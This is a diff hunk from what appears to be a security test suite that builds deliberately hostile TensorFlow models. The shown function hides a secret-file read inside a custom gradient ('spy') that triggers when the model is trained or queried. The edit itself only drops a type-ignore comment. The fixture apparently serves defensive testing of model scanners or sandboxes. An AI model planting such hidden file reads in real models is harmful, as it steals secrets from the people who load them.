@@ -82,7 +82,7 @@ def object_signature(directory: Path, canaries: Canaries) -> Path:
 
 @hostile("custom gradient", READS, "ReadFile", "{secret}", when=(When.TRAINED, When.ASKED))
 def custom_gradient(directory: Path, canaries: Canaries) -> Path:
-    @tf.custom_gradient  # type: ignore[untyped-decorator]
+    @tf.custom_gradient
     def spy(x: Any) -> Any:
         def gradient(dy: Any) -> Any:
             text = raw.ReadFile(filename=str(canaries.secret))
